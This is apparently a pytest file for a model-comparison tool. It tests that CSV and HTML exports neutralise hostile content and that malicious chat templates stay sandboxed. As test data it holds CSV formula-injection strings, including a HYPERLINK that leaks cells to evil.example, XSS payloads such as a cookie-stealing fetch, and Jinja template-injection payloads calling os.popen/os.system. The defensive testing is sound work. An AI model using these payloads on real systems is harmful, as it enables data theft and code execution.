"""Content from elsewhere (data, model output, a model's own chat template) stays data (issue 12):
spreadsheet formulas in CSV exports are neutralised, the HTML export stays inert, and a
hostile chat template is stopped by the sandbox with a clear message."""

from __future__ import annotations

import csv
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from backend.compare.export import export_compare, summary_path_for
from backend.compare.scoring import CompareRow, summarize

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
HOSTILE_HTML = ["<script>fetch('http://evil.example/'+document.cookie)</script>",
                "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">click me</a>",
                "\"><svg onload=alert(1)>", "</td></tr></table><iframe src=//evil.example>"]


def hostile_rows() -> list[CompareRow]:
    texts = FORMULAS + HOSTILE_HTML
    return [CompareRow(index=i, prompt=t, base_answer=t, aligned_answer=texts[-1 - i], base_tokens=3,
                       aligned_tokens=3, base_finish="stop", aligned_finish="stop", chosen=t, rejected=t,
                       base_answer_reward=-0.5)
            for i, t in enumerate(texts)]


def test_csv_export_neutralises_formulas_from_data_and_model_output(tmp_path):
    rows = hostile_rows()
    summary = summarize(rows, model_label="=cmd|' /C calc'!A0", run_dir=str(tmp_path / "run"))
    table, side = export_compare(tmp_path / "out.csv", rows, summary)
    with open(table, newline="", encoding="utf-8") as fh:
        read = list(csv.DictReader(fh))
    cells = [v for row in read for k, v in row.items() if k in ("prompt", "base_answer", "aligned_answer",
                                                                "chosen", "rejected")]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert read[0]["prompt"] == "'" + FORMULAS[0]  # shown as typed, not run
    assert read[4]["base_answer"] == "'\t=1+1"
    assert read[0]["base_answer_reward"] == "-0.5"  # numbers stay numbers
    with open(summary_path_for(table), newline="", encoding="utf-8") as fh:
        pairs = dict(csv.reader(fh))
    assert pairs["model_label"] == "'=cmd|' /C calc'!A0"
    assert side == summary_path_for(table)


class _Inventory(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def test_html_export_stays_inert_with_hostile_content(tmp_path):
    rows = hostile_rows()
    summary = summarize(rows, model_label="<script>alert(1)</script>", adapter="<img src=x onerror=alert(2)>",
                        run_dir=str(tmp_path / "<b onmouseover=alert(3)>"))
    (page,) = export_compare(tmp_path / "out.html", rows, summary)
    inventory = _Inventory()
    inventory.feed(page.read_text(encoding="utf-8"))
    assert inventory.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "div", "br", "table", "thead",
                              "tbody", "tr", "th", "td", "p"}, inventory.tags
    assert not [a for a in inventory.attributes if a[0].startswith("on") or a[0] in ("href", "src")]
    assert not [v for _, v in inventory.attributes if v and "javascript:" in v.lower()]
    text = page.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "javascript:alert(1)" in text  # shown, as text


# ------------------------------------------------------------------ chat templates
HOSTILE_TEMPLATES = [
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if 'Popen' in c.__name__ %}"
    "{{ c(['touch', 'MARKER']) }}{% endif %}{% endfor %}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch MARKER') }}",
]


@pytest.mark.parametrize("template", HOSTILE_TEMPLATES)
def test_hostile_chat_template_stays_in_the_sandbox_with_a_clear_message(template, tiny_model_dir, tmp_path):
    from backend.models.source import ModelSourceError
    from backend.data.prompt_rendering import prompt_token_ids
    from backend.runs.config import default_config
    from backend.training.trainer_builders import build_tokenizer

    marker = tmp_path / "template-ran"
    model = tmp_path / "templated"
    shutil.copytree(tiny_model_dir, model)
    (model / "chat_template.jinja").write_text(template.replace("MARKER", str(marker)))
    with pytest.raises(ModelSourceError) as info:
        build_tokenizer(str(model), default_config("sft"))
    message = str(info.value)
    assert "chat template of" in message and "templated" in message
    assert "outside the template sandbox" in message and "stopped before it could do anything" in message
    assert not marker.exists()

    # The Compare path renders prompts without build_tokenizer's check: the same sentence.
    from transformers import AutoTokenizer

    tokenizer = AutoTokenizer.from_pretrained(str(model))
    with pytest.raises(ModelSourceError, match="outside the template sandbox"):
        prompt_token_ids(tokenizer, [{"role": "user", "content": "hi"}])
    assert not marker.exists()


def test_a_plain_model_template_still_renders(tiny_model_dir):
    from backend.runs.config import default_config
    from backend.training.trainer_builders import build_tokenizer

    tokenizer = build_tokenizer(str(tiny_model_dir), default_config("sft"))
    assert "Hello" in tokenizer.apply_chat_template([{"role": "user", "content": "Hello"}], tokenize=False)
